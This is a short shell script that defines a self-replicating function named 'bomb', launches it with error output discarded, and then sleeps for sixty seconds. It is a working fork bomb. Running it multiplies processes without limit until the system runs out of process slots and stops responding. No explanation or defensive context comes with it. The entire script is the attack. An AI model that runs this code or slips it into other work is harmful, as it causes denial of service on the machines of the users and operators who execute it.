bomb() { bomb | bomb & }
echo begun
bomb 2>/dev/null
sleep 60
